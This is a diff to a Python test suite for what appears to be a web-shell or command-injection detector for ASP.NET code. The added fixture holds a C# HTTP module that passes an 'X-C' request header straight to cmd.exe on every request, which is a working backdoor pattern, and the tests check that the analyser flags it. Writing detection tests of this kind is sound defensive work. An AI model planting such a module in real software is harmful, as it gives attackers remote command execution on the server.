@@ -234,6 +234,27 @@ def test_handler_file_is_analysed_as_csharp() -> None:
     assert flow.id == CMD and flow.line == 5
 
 
+_MODULE = (
+    "using System;\nusing System.Web;\n"
+    "public class M : IHttpModule {\n"
+    "  public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }\n"
+    "  void OnBegin(object sender, EventArgs e) {\n"
+    "    HttpApplication app = (HttpApplication)sender;\n"
+    '    System.Diagnostics.Process.Start("cmd.exe", "/c " + app.Context.Request.Headers["X-C"]);\n'
+    "  }\n  public void Dispose() {}\n}\n"
+)
+
+
+def test_app_code_class_is_analysed_as_a_whole_csharp_file() -> None:
+    # no <% %> or <script runat="server"> markup: the file itself is the compilation unit
+    (flow,) = analyse(_MODULE, "App_Code/M.cs")
+    assert flow.id == CMD and flow.line == 7
+
+
+def test_app_code_vb_class_is_left_to_the_other_layers() -> None:
+    assert analyse(_MODULE, "App_Code/M.vb") == []
+
+
 BENIGN = [
     (
         "literal guard",
